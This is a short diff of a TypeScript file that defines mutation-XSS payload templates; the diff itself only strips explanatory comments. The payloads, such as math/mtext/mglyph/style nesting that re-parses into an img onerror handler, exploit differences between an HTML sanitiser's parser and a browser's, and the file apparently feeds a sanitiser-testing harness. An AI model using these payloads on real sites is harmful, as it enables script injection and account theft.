@@ -1,7 +1,5 @@
-// Payloads that use differences between a sanitiser's parser and a page's.
 import { CANARY, crossed, words, type Payload } from './payload.ts'
 
-/** Elements whose content some parsers read as text. */
 const RAW = words(
   'style script xmp iframe noembed noframes noscript plaintext textarea title template listing select option optgroup',
 )
@@ -43,7 +41,6 @@ const COMMENTS: readonly Payload[] = [
   js => `<p title="&amp;lt;img src=x onerror=${js}&amp;gt;">x</p>`,
 ]
 
-/** Texts that change when they are serialised and parsed again. */
 const MUTATING: readonly Payload[] = [
   js => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
   js => `<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror=${js}>">`,
